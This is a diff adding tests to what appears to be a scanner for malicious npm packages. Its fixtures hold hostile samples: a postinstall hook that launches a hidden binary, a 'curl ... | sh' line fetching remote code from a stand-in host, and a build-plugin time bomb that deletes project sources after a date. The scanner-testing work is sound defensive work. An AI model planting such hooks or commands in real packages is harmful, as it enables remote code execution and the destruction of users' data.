@@ -161,3 +161,70 @@ require('https').get(${dest}, { headers: { authorization: 'Bearer ' + cfg['_auth
       ).toContain('js.exfil-flow');
   });
 });
+
+describe('a package folder read as npm packs it', () => {
+  it('node_modules holds the bundled dependency (read, with its install hook) and an installed one (not read)', async () => {
+    const { mkdtemp, mkdir, writeFile, rm } = await import('node:fs/promises');
+    const { tmpdir } = await import('node:os');
+    const { join } = await import('node:path');
+    const { analyzeDirectory } = await import('../../../src/engine/index');
+    const dir = await mkdtemp(join(tmpdir(), 'bundled-'));
+    try {
+      const put = async (p: string, text: string) => {
+        await mkdir(join(dir, p, '..'), { recursive: true });
+        await writeFile(join(dir, p), text);
+      };
+      await put(
+        'package.json',
+        JSON.stringify({
+          name: 'http-kit',
+          version: '1.0.0',
+          dependencies: { helper: '1.0.0' },
+          bundleDependencies: ['helper'],
+        }),
+      );
+      await put('index.js', 'module.exports = 1;');
+      await put(
+        'node_modules/helper/package.json',
+        JSON.stringify({ name: 'helper', version: '1.0.0', scripts: { postinstall: 'node setup.js' } }),
+      );
+      await put(
+        'node_modules/helper/setup.js',
+        "require('child_process').spawn('/tmp/.x', [], { detached: true, stdio: 'ignore' }).unref();",
+      );
+      await put(
+        'node_modules/installed/index.js',
+        "require('child_process').exec('curl -s https://x.example/p | sh');",
+      );
+      const r = await analyzeDirectory(dir);
+      const files = new Set(r.evidence.map((f) => f.file));
+      expect(files.has('node_modules/helper/setup.js')).toBe(true);
+      expect([...files].some((f) => f.startsWith('node_modules/installed/'))).toBe(false);
+    } finally {
+      await rm(dir, { recursive: true, force: true });
+    }
+  });
+});
+
+describe('a time bomb in a build plugin', () => {
+  const plugin = (body: string) =>
+    load({
+      'index.js': `const { rmSync } = require('fs'); const { join } = require('path');
+module.exports = function plugin() {
+  let root = process.cwd();
+  return { name: 'inspect', configResolved(cfg) { root = cfg.root; }, buildStart() { ${body} } };
+};`,
+    });
+  it("the project's sources deleted after a set date, one build in four", () => {
+    const r = plugin(
+      `if (Date.now() < Date.UTC(2025, 10, 20) || Math.random() > 0.25) return; for (const t of ['src', 'public']) rmSync(join(root, t), { recursive: true, force: true });`,
+    );
+    expect(r.evidence.map((f) => f.rule)).toContain('js.geo-gated-destructive');
+  });
+  it('quiet: a cache folder cleared when it has expired', () => {
+    const r = plugin(
+      `if (Date.now() - 86400000 > 0) rmSync(join(root, 'node_modules', '.cache', 'inspect'), { recursive: true, force: true });`,
+    );
+    expect(threatsOf(r)).toEqual([]);
+  });
+});
